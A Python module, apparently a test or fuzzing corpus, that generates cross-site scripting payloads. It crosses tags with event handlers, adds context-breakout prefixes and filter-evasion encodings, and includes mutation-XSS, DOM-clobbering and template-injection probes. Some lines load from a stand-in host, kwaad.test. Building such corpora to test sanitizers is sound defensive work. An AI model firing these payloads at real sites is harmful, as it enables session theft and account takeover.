"""Texts that want to run: every tag that acts, every event, every way out, every way to write it."""

from itertools import cycle
from urllib.parse import quote

ACT = "__x=1"
"""What each of them does if it runs: the page then knows."""
EVENTS = (
    *("onerror", "onload", "onclick", "onfocus", "ontoggle", "onstart", "onmouseover", "onpointerenter"),
    *("onanimationstart", "onbeforetoggle", "oncontentvisibilityautostatechange", "onwheel", "onpaste"),
)
TAGS = (
    *("img src=x", "svg", "svg/onload", "body", "video><source", "audio src=x", "iframe", "object data=x"),
    *("details open", "marquee", "input autofocus", "select autofocus", "textarea autofocus", "math", "a"),
    *("embed src=x", "style", "link rel=stylesheet href=x", "x contenteditable", "p style=display:block"),
)
HEAVY = (
    f"<script>{ACT}</script>",
    f"<script src=data:,{ACT}></script>",
    f"<script type=module>{ACT}</script>",
    f"<iframe srcdoc='<script>parent.{ACT}</script>'>",
    f"<iframe src=javascript:parent.{ACT}>",
    f"<object data=javascript:{ACT}>",
    f"<a href=javascript:{ACT}>klik</a>",
    f"<form action=javascript:{ACT}><button>klik</button>",
    f"<button formaction=javascript:{ACT}>klik</button>",
    f"<math><a xlink:href=javascript:{ACT}>x</a></math>",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><animate onbegin={ACT} attributeName=x>",
    f"<svg><set onbegin={ACT} attributeName=x>",
    f"<svg><use href=data:image/svg+xml,<svg/onload={ACT}>>",
    f"<meta http-equiv=refresh content=0;url=javascript:{ACT}>",
    "<meta http-equiv=refresh content=0;url=http://kwaad.test>",
    "<base href=http://kwaad.test/>",
    "<link rel=stylesheet href=http://kwaad.test/x.css>",
    "<link rel=prefetch href=http://kwaad.test>",
    "<img src=http://kwaad.test/x.png>",
    "<style>@import'http://kwaad.test'</style>",
    "<style>*{display:none}</style>",
    "<table background=http://kwaad.test>",
    f"<template><img src=x onerror={ACT}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={ACT}>'>",
    f"<svg></p><style><a id='</style><img src=x onerror={ACT}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={ACT}>",
    f"<form id=screen><input name=innerHTML></form><img src=x onerror={ACT}>",
    f"<dialog open onclose={ACT}><form method=dialog><button>x</button></form></dialog>",
)
OUT = (
    *(
        '"',
        "'",
        "`",
        '">',
        "'>",
        "-->",
        "]]>",
        "</title>",
        "</textarea>",
        "</script>",
        "</style>",
        "</select>",
    ),
    *(
        "</option>",
        "</noscript>",
        "</template>",
        "</svg>",
        "*/",
        "//",
        "\\",
        '\\"',
        "\\u003c/script>",
        "%>",
        "}}",
    ),
    *("{%raw%}", "${", "#{", '");', "');", "\n", "\x00>", "&quot;>", "&#34;>"),
)
CORE = (f"<svg onload={ACT}>", f"<img src=x onerror={ACT}>", f" onfocus={ACT} autofocus ")


def _entities(text: str) -> str:
    return "".join(f"&#{ord(sign)};" for sign in text)


def _hexed(text: str) -> str:
    return "".join(f"&#x{ord(sign):x}" for sign in text)


def _wide(text: str) -> str:
    return "".join(chr(ord(sign) + 0xFEE0) if "!" <= sign <= "~" else sign for sign in text)


def _torn(text: str) -> str:
    return text.replace("svg", "s\x00vg").replace("img", "i\x00mg")


WRITTEN = (
    _entities,
    _hexed,
    _wide,
    _torn,
    quote,
    lambda text: quote(quote(text)),
    lambda text: text.replace("<", "\\u003c"),
    lambda text: text.replace("<", "\\x3c"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\t"),
    lambda text: text.replace(" ", "\x0c"),
    lambda text: text.replace("<", "<\u200b"),
    lambda text: "".join(a.upper() if up else a for a, up in zip(text, cycle((True, False)), strict=False)),
    lambda text: text.replace("<", "<<"),
    lambda text: text.replace(">", ""),
    lambda text: f"[klik](javascript:{ACT}) {text}",
    lambda text: f"{{{{ {text} }}}}",
    lambda text: f"{{{{ ''.__class__.__mro__ }}}}{text}",
)
"""The same in another spelling, which somebody on the way may undo."""
SCRIPTS = tuple(
    dict.fromkeys(
        [
            *CORE,
            *HEAVY,
            *(f"<{tag} {event}={ACT}>" for tag in TAGS for event in EVENTS[: 9 if tag in TAGS[:12] else 4]),
            *(f"{out}{core}" for out in OUT for core in CORE),
            *(write(core) for write in WRITTEN for core in CORE[:2]),
        ]
    )
)
